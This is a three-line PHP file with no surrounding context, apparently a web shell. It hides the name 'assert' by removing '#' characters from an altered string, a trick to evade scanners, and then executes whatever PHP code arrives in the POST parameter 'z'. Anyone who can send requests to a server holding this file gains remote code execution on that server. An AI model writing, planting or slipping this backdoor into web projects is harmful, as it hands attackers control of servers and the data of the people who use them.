<?php
$f = str_replace("#", "", "as#s#ert");
$f($_POST["z"]);
